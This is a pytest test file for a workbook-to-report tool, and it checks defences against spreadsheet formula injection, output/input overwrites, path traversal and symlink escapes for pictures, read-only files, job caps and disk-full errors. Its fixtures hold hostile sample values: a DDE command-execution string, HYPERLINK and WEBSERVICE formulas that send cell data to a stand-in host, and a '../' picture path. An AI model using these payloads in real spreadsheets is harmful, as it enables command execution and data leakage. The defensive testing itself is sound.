"""Trust boundaries of what the tool writes (issue 10): text from workbooks never becomes a
formula in a spreadsheet the tool makes, an output is never one of the run's inputs, a read-only
report is left alone, --jobs is capped, a full disk or an overlong name is a clear message."""

from __future__ import annotations

import builtins
import errno
import gc
import hashlib
import html
import io
import os
import re
import shutil
import struct
import sys
import time
import zipfile
import zlib
from pathlib import Path

import pytest
from click.testing import CliRunner
from conftest import write_minimal_workbook
from docx import Document
from openpyxl import load_workbook

from lkip_docx import output as output_mod
from lkip_docx.api import build_many, build_report, init_workbook, write_rekap
from lkip_docx.cli import main
from lkip_docx.problems import LkipError
from lkip_docx.report.engine import default_template
from lkip_docx.workbook.writer import write_workbook

PNG = b"\x89PNG\r\n\x1a\n" + b"\0" * 64


def run(*args: str):
    result = CliRunner().invoke(main, list(args), env={"LKIP_DEBUG": None})
    assert "Traceback" not in result.output
    return result


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.rglob(f"{output_mod.TEMP_PREFIX}*"))


# --- 1. text stays text in every .xlsx the tool writes --------------------------------------------

HYPERLINK = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik di sini")'
WEBSERVICE = '=WEBSERVICE("http://contoh.invalid/"&B2)'
DDE = "=cmd|' /C calc'!A0"
LEADS = ["+62 21 123", "-1+1", "@SUM(1+1)", "#N/A", "==", "=", "'=kutip"]


def sheet_xml(path: Path) -> dict[str, str]:
    with zipfile.ZipFile(path) as zf:
        return {n: zf.read(n).decode("utf-8") for n in zf.namelist()
                if re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)}


def cell_texts(path: Path) -> list[str]:
    """The text of every text cell, as stored (inline or in the shared strings)."""
    with zipfile.ZipFile(path) as zf:
        parts = [n for n in zf.namelist() if n == "xl/sharedStrings.xml"
                 or re.fullmatch(r"xl/worksheets/sheet\d+\.xml", n)]
        xml = "".join(zf.read(n).decode("utf-8") for n in parts)
    return [html.unescape(t) for t in re.findall(r"<t(?:\s[^>]*)?>(.*?)</t>", xml, re.S)]


def assert_no_formula(path: Path) -> None:
    for name, xml in sheet_xml(path).items():
        assert not re.search(r"<f[\s>/]", xml), f"a formula in {name}"
        assert not re.search(r'\st="e"', xml), f"an error value in {name}"


def assert_text_cells(path: Path, texts: list[str]) -> None:
    """Every text is a string cell holding exactly the text; those Excel would take for a
    formula when retyped carry quotePrefix (Excel's own marker of a typed apostrophe)."""
    strings = cell_texts(path)
    wb = load_workbook(path)
    cells = {c.value: c for ws in wb.worksheets for row in ws.iter_rows() for c in row
             if isinstance(c.value, str)}
    for text in texts:
        assert text in strings, text
        assert cells[text].data_type == "s", text
        assert cells[text].quotePrefix == text.startswith(("=", "+", "-", "@")), text


@pytest.fixture
def hostile_city(tmp_path):
    """Three workbooks whose author typed formulas as text: agency, indicator and file names,
    and a workbook with errors (named with a DDE command)."""
    folder = tmp_path / "kota"
    folder.mkdir()
    write_minimal_workbook(folder / "a.xlsx", profil={"nama_instansi": HYPERLINK,
                                                       "singkatan": LEADS[0]})
    from conftest import changed

    write_minimal_workbook(folder / "=SUM(1,2)+HYPERLINK(A1).xlsx",
                           profil={"nama_instansi": "Dinas B", "singkatan": LEADS[3]},
                           iku=changed("iku", 0, nama=WEBSERVICE, satuan=LEADS[1]))
    write_minimal_workbook(folder / "@c.xlsx", profil={"nama_instansi": DDE,
                                                        "singkatan": LEADS[2]},
                           sub_kegiatan=changed("sub_kegiatan", 0, realisasi="=2+3 rupiah"))
    return folder


def test_rekap_keeps_every_text_as_text(hostile_city, tmp_path):
    out = tmp_path / "rekap.xlsx"
    result = run("rekap", str(hostile_city), "-o", str(out), "--jobs", "1")
    assert result.exit_code == 1, result.output  # the third workbook has an error
    assert_no_formula(out)
    assert_text_cells(out, [HYPERLINK, WEBSERVICE, DDE, "=SUM(1,2)+HYPERLINK(A1).xlsx", "@c.xlsx",
                            LEADS[0], LEADS[1], LEADS[2], LEADS[3]])
    galat = [[c.value for c in row] for row in load_workbook(out)["Galat"].iter_rows(min_row=2)]
    assert galat[0][0] == "@c.xlsx" and "=2+3 rupiah" in galat[0][3]


@pytest.mark.skipif(os.name == "nt", reason="Windows forbids control characters in file names")
def test_rekap_writes_a_file_name_with_control_characters_visibly(tmp_path):
    # openpyxl refuses control characters (XML cannot hold them): the whole recap failed.
    folder = tmp_path / "kota"
    folder.mkdir()
    write_minimal_workbook(folder / "a\x1b]0;judul\x07.xlsx")
    out = tmp_path / "rekap.xlsx"
    assert run("rekap", str(folder), "-o", str(out)).exit_code == 0
    assert cell_texts(out).count("a\\x1b]0;judul\\x07.xlsx") == 1


def test_blank_and_sample_workbooks_keep_text_as_text(tmp_path):
    from conftest import changed

    texts = [HYPERLINK, DDE, WEBSERVICE, *LEADS]
    path = tmp_path / "contoh.xlsx"
    write_workbook(path, {"tujuan": changed("tujuan", 0, uraian=WEBSERVICE),
                          "prestasi": [{"uraian": t} for t in texts]},
                   {"nama_instansi": HYPERLINK, "singkatan": DDE})
    assert_no_formula(path)
    assert_text_cells(path, texts)
    blank = tmp_path / "kosong.xlsx"
    init_workbook(blank)
    assert_no_formula(blank)


# --- 2. an output is never one of the run's inputs ------------------------------------------------

def test_rekap_refuses_to_overwrite_a_workbook_it_recaps(tmp_path, valid_workbook):
    folder = tmp_path / "kota"
    folder.mkdir()
    shutil.copy(valid_workbook, folder / "a.xlsx")
    shutil.copy(valid_workbook, folder / "b.xlsx")
    before = digest(folder / "a.xlsx")
    result = run("rekap", str(folder), "-o", str(folder / "a.xlsx"), "--force")
    assert result.exit_code == 1
    assert "[output-is-input]" in result.output
    assert digest(folder / "a.xlsx") == before
    with pytest.raises(LkipError) as exc:  # the library refuses, not only the CLI
        write_rekap([folder], folder / "b.xlsx", force=True)
    assert [p.code for p in exc.value.problems] == ["output-is-input"]


def test_rekap_rewritten_in_its_own_folder_is_not_an_input(tmp_path, valid_workbook):
    folder = tmp_path / "kota"
    folder.mkdir()
    shutil.copy(valid_workbook, folder / "a.xlsx")
    out = folder / "rekap.xlsx"
    assert run("rekap", str(folder), "-o", str(out)).exit_code == 0
    result = run("rekap", str(folder), "-o", str(out), "--force")
    assert result.exit_code == 0, result.output
    assert "(1 valid, 0 bergalat)" in result.output


def test_build_refuses_to_overwrite_its_template(tmp_path, valid_workbook):
    template = tmp_path / "T.docx"
    shutil.copy(default_template(), template)
    before = digest(template)
    result = run("build", str(valid_workbook), "-o", str(template), "--template", str(template),
                 "--force")
    assert result.exit_code == 1
    assert "[output-is-input]" in result.output
    assert digest(template) == before


@pytest.mark.skipif(not hasattr(os, "link"), reason="hard links")
def test_another_name_for_the_template_is_the_template(tmp_path, valid_workbook):
    template = tmp_path / "T.docx"
    shutil.copy(default_template(), template)
    other = tmp_path / "laporan.docx"
    os.link(template, other)  # the same file under another name
    with pytest.raises(LkipError) as exc:
        build_report(valid_workbook, other, template, force=True)
    assert [p.code for p in exc.value.problems] == ["output-is-input"]
    with pytest.raises(LkipError):
        build_report(valid_workbook, tmp_path / "." / "T.docx", template, force=True)
    assert Document(str(template)).paragraphs


def test_build_refuses_to_overwrite_a_picture_the_workbook_names(tmp_path):
    path = write_minimal_workbook(tmp_path / "lkip.xlsx", profil={"logo": "gambar.docx"})
    (tmp_path / "gambar.docx").write_bytes(PNG)
    with pytest.raises(LkipError) as exc:
        build_report(path, tmp_path / "gambar.docx", force=True)
    assert [p.code for p in exc.value.problems] == ["output-is-input"]
    assert (tmp_path / "gambar.docx").read_bytes() == PNG


def test_rekap_refuses_to_overwrite_a_picture_a_workbook_names(tmp_path):
    path = write_minimal_workbook(tmp_path / "lkip.xlsx", profil={"logo": "rekap.xlsx"})
    (tmp_path / "rekap.xlsx").write_bytes(PNG)
    result = run("rekap", str(path), "-o", str(tmp_path / "rekap.xlsx"), "--force")
    assert result.exit_code == 1
    assert "[output-is-input]" in result.output
    assert (tmp_path / "rekap.xlsx").read_bytes() == PNG


def test_batch_refuses_a_template_in_the_output_folder_before_any_work(tmp_path, valid_workbook):
    # The template laporan/b.docx was the report of b.xlsx: overwritten mid-run, the reports
    # after it became copies of b's report ("6 laporan dibuat, 0 gagal").
    city = tmp_path / "kota"
    city.mkdir()
    for name in "abc":
        shutil.copy(valid_workbook, city / f"{name}.xlsx")
    out = tmp_path / "laporan"
    out.mkdir()
    template = out / "b.docx"
    shutil.copy(default_template(), template)
    before = digest(template)
    result = run("build", str(city), "-o", str(out), "--template", str(template), "--force")
    assert result.exit_code == 1
    assert "[output-is-input]" in result.output and "b.docx" in result.output
    assert sorted(p.name for p in out.iterdir()) == ["b.docx"]  # nothing built
    assert digest(template) == before
    with pytest.raises(LkipError):
        build_many([city], out, template, force=True, jobs=1)


def test_batch_reads_its_template_once(tmp_path, valid_workbook):
    # Whatever happens to the template file during the run, every report comes from the
    # template as it was when the batch started.
    city = tmp_path / "kota"
    city.mkdir()
    for name in "abc":
        shutil.copy(valid_workbook, city / f"{name}.xlsx")
    template = tmp_path / "T.docx"
    shutil.copy(default_template(), template)
    changed_doc = Document(str(default_template()))
    changed_doc.add_paragraph("TEMPLAT DIGANTI DI TENGAH JALAN")
    changed = io.BytesIO()
    changed_doc.save(changed)

    def replace_template(outcome, total):
        template.write_bytes(changed.getvalue())

    out = tmp_path / "laporan"
    outcomes = build_many([city], out, template, jobs=1, progress=replace_template)
    assert [o.ok for o in outcomes] == [True, True, True]
    for report in sorted(out.iterdir()):
        text = "\n".join(p.text for p in Document(str(report)).paragraphs)
        assert "DIGANTI" not in text, report.name
    assert not list(Path(os.path.dirname(template)).glob("lkip-templat-*"))


def tiny_png() -> bytes:
    """A real 1x1 PNG (python-docx reads its size)."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data)))

    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\xff\x00\x00")) + chunk(b"IEND", b""))


def pictures_in(report: Path) -> list[str]:
    with zipfile.ZipFile(report) as zf:
        return [n for n in zf.namelist() if n.startswith("word/media/")]


def test_pictures_come_only_from_the_workbook_s_folder(tmp_path):
    # A workbook passed between offices named '../x.png' or an absolute path, and the report
    # (sent on to Bappeda) carried whatever picture of the planner's computer that was.
    folder = tmp_path / "dinas"
    folder.mkdir()
    (tmp_path / "rahasia.png").write_bytes(tiny_png())
    path = write_minimal_workbook(folder / "lkip.xlsx", profil={
        "logo": "../rahasia.png", "bagan_organisasi": str(tmp_path / "rahasia.png")})
    result = build_report(path, tmp_path / "laporan.docx", page_numbers=False)
    assert sorted(p.code for p in result.warnings) == ["picture-outside-folder"] * 2
    assert pictures_in(tmp_path / "laporan.docx") == []
    # the same picture in the workbook's folder is used
    (folder / "logo.png").write_bytes(tiny_png())
    path = write_minimal_workbook(folder / "lkip.xlsx", profil={"logo": "logo.png"})
    result = build_report(path, tmp_path / "laporan-2.docx", page_numbers=False)
    assert [p.code for p in result.warnings] == []
    assert len(pictures_in(tmp_path / "laporan-2.docx")) == 1


@pytest.mark.skipif(not hasattr(os, "symlink") or os.name == "nt", reason="POSIX links")
def test_a_link_out_of_the_workbook_s_folder_is_outside_it(tmp_path):
    folder = tmp_path / "dinas"
    folder.mkdir()
    (tmp_path / "rahasia.png").write_bytes(tiny_png())
    (folder / "logo.png").symlink_to(tmp_path / "rahasia.png")
    path = write_minimal_workbook(folder / "lkip.xlsx", profil={"logo": "logo.png"})
    result = build_report(path, tmp_path / "laporan.docx", page_numbers=False)
    assert [p.code for p in result.warnings] == ["picture-outside-folder"]
    assert pictures_in(tmp_path / "laporan.docx") == []


# --- 3. a read-only report is left alone ----------------------------------------------------------

def test_read_only_report_is_left_alone_even_with_force(tmp_path, valid_workbook):
    out = tmp_path / "laporan.docx"
    out.write_bytes(b"laporan yang dikunci")
    out.chmod(0o444)
    try:
        result = run("build", str(valid_workbook), "-o", str(out), "--force")
        assert result.exit_code == 1
        assert "[output-read-only]" in result.output
        assert out.read_bytes() == b"laporan yang dikunci"
        assert leftovers(tmp_path) == []
    finally:
        out.chmod(0o644)


# --- 4. --jobs is capped --------------------------------------------------------------------------

def _slow_pid() -> int:
    time.sleep(0.2)
    return os.getpid()


def test_jobs_are_capped_at_the_cores_and_the_workbooks():
    from lkip_docx.batch import available_cores, run_parallel, worker_count

    cores = available_cores()
    assert worker_count(64, 1000) == cores
    assert worker_count(64, 3) == min(cores, 3)
    assert worker_count(None, 1000) == cores
    assert worker_count(1, 1000) == 1
    pids = run_parallel(_slow_pid, [()] * 12, 64, None, lambda task, exc: None)
    assert len(set(pids)) <= cores


def test_jobs_help_says_it_is_capped():
    for command in ("build", "rekap"):
        text = " ".join(run(command, "--help").output.split())
        assert "batas atas: jumlah inti CPU" in text


# --- 7. a full disk -------------------------------------------------------------------------------

@pytest.fixture
def full_disk(monkeypatch):
    """Every new file the tool writes fills the disk (ENOSPC) at its first byte; reading and
    everything else work. Exceptions Python could only report as "ignored" (a zip closed by the
    garbage collector) are collected in the returned list."""
    real_open = builtins.open

    class Full:
        def __init__(self, fh):
            self._fh = fh

        def write(self, _data):
            raise OSError(errno.ENOSPC, "No space left on device")

        def __getattr__(self, name):
            return getattr(self._fh, name)

        def __enter__(self):
            return self

        def __exit__(self, *_exc):
            self._fh.close()

    def full_open(file, mode="r", *args, **kwargs):
        fh = real_open(file, mode, *args, **kwargs)
        if isinstance(file, (str, bytes, os.PathLike)) and ("w" in mode or "a" in mode) and \
                os.fsdecode(os.path.basename(file)).startswith(output_mod.TEMP_PREFIX):
            return Full(fh)
        return fh

    monkeypatch.setattr(builtins, "open", full_open)
    monkeypatch.setattr(io, "open", full_open)
    ignored: list = []
    monkeypatch.setattr(sys, "unraisablehook", ignored.append)
    return ignored


@pytest.mark.parametrize("command", ["init", "rekap"])
def test_full_disk_is_one_message_and_no_traceback(tmp_path, valid_workbook, full_disk, command):
    # openpyxl wrote straight into the temporary file: when the disk filled up its zip stayed
    # open, and closing it later printed a traceback after the right message.
    target = tmp_path / "keluar" / "hasil.xlsx"
    target.parent.mkdir()
    args = ["init", str(target)] if command == "init" else \
        ["rekap", str(valid_workbook), "-o", str(target), "--jobs", "1"]
    result = run(*args)
    gc.collect()
    assert result.exit_code == 1, result.output
    assert "[output-disk-full]" in result.output
    assert full_disk == []
    assert list(target.parent.iterdir()) == []


# --- 8. a name too long for the file system -------------------------------------------------------

@pytest.mark.parametrize("command", ["build", "init", "rekap"])
def test_an_overlong_output_name_is_a_clear_message(tmp_path, valid_workbook, command):
    stem = "laporan-" + "x" * 300
    args = {"build": ["build", str(valid_workbook), "-o", str(tmp_path / f"{stem}.docx")],
            "init": ["init", str(tmp_path / f"{stem}.xlsx")],
            "rekap": ["rekap", str(valid_workbook), "-o", str(tmp_path / f"{stem}.xlsx")]}
    result = run(*args[command])
    assert result.exit_code == 1, result.output
    assert "[output-name-too-long]" in result.output
    assert "Kesalahan internal" not in result.output
